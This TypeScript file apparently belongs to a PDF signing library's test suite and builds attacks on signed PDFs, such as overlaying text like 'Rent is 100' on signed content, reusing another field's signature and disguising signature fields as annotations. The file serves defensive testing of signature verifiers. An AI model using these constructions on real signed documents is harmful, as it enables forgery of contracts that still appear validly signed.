import { dict, name, type PdfObject, textString } from '#signing';
import { pageOf, withCatalog, type Update } from '#support/pdf/attacker.ts';
import { attack, CERTIFIED, type Attack } from './attack.ts';
import { drawing, FONTS } from './drawing.ts';

/** Attacks through signature fields and the list of fields, which need no key. */

const OVER_TEXT = [60, 740, 400, 790];

/** Appends widgets to the form, to the page, or to both. */
function listing(widgets: readonly PdfObject[], places: { form: boolean; page: boolean }): Update {
  return (document, writer) => {
    const form = document.dict(document.root.get('AcroForm')) ?? new Map<string, PdfObject>();
    const fields = [...document.array(form.get('Fields')), ...widgets];
    if (places.form) withCatalog({ AcroForm: new Map([...form, ['Fields', fields]]) })(document, writer);
    if (!places.page) return;
    const { ref, page } = pageOf(document);
    writer.set(ref, new Map(page).set('Annots', [...document.array(page.get('Annots')), ...widgets]));
  };
}

const lastField: (document: Parameters<Update>[0]) => PdfObject = (document) =>
  document.array(document.dict(document.root.get('AcroForm'))?.get('Fields')).at(-1) ?? null;

/** Kinds of annotations that viewers draw, or that take the place of a note, without an appearance. */
const DRAWN: Record<string, Record<string, PdfObject>> = {
  FreeText: {
    Contents: textString('Rent is 100'),
    DA: textString('/F1 18 Tf 0 g'),
    DR: dict({ Font: FONTS }),
  },
  Square: { IC: [1, 1, 1], C: [1] },
  Stamp: { Name: name('Void') },
  Text: { Contents: textString('Rent is 100') },
  Highlight: { QuadPoints: [60, 790, 400, 790, 60, 740, 400, 740], C: [0, 0, 0] },
};

const TEXT_FIELD = { FT: name('Tx'), V: textString('Rent is 100'), DA: textString('/F1 18 Tf 0 g') };

export const FIELD_ATTACKS: readonly Attack[] = [
  {
    family: 'sneaky signature',
    name: 'a new field refers to the signature of another one',
    levels: [undefined, ...CERTIFIED],
    update: (document, writer) => {
      const widget = dict({
        ...{ Type: name('Annot'), Subtype: name('Widget'), FT: name('Sig'), T: textString('Copy') },
        V: document.dict(lastField(document))?.get('V') ?? null,
        Rect: OVER_TEXT,
        AP: dict({
          N: writer.add(drawing('1 g 0 0 340 50 re f 0 g BT /F1 18 Tf 2 20 Td (Rent is 100) Tj ET')),
        }),
      });
      listing([writer.add(widget)], { form: true, page: true })(document, writer);
    },
  },
  attack('sneaky signature', 'the page lists a signed field a second time', {
    update: (document, writer) => {
      listing([lastField(document)], { form: false, page: true })(document, writer);
    },
  }),
  ...Object.entries(DRAWN).flatMap(([kind, entries]) =>
    [OVER_TEXT, [60, 740, 60, 740]].map((Rect): Attack => ({
      family: 'sneaky signature',
      name: `an empty signature field that is a ${kind}${Rect === OVER_TEXT ? '' : ' without an area'}`,
      levels: [undefined, ...CERTIFIED],
      update: (document, writer) => {
        const field = { FT: name('Sig'), T: textString('Later'), Subtype: name(kind), Rect, ...entries };
        listing([writer.add(dict({ Type: name('Annot'), ...field }))], { form: true, page: true })(
          document,
          writer,
        );
      },
    })),
  ),
  attack('sneaky signature', 'a widget of an empty signature field is a text field', {
    update: (document, writer) => {
      const widget = writer.add(dict({ ...TEXT_FIELD, Subtype: name('Widget'), Rect: OVER_TEXT }));
      const field = dict({ FT: name('Sig'), T: textString('Later'), Kids: [widget] });
      listing([writer.add(field)], { form: true, page: false })(document, writer);
      listing([widget], { form: false, page: true })(document, writer);
    },
  }),
  attack('sneaky signature', 'the parent of an empty signature field is a text field that does not list it', {
    update: (document, writer) => {
      const entries = { Subtype: name('Widget'), Rect: OVER_TEXT, T: textString('a') };
      const widget = writer.add(dict({ ...entries, Parent: writer.add(dict(TEXT_FIELD)) }));
      const field = dict({ FT: name('Sig'), T: textString('Later'), Kids: [widget] });
      listing([writer.add(field)], { form: true, page: false })(document, writer);
      listing([widget], { form: false, page: true })(document, writer);
    },
  }),
  attack('incremental saving', 'a second field of the same name has another value', {
    update: (document, writer) => {
      const field = dict({ FT: name('Tx'), T: textString('amount'), V: textString('100') });
      listing([writer.add(field)], { form: true, page: false })(document, writer);
    },
  }),
];
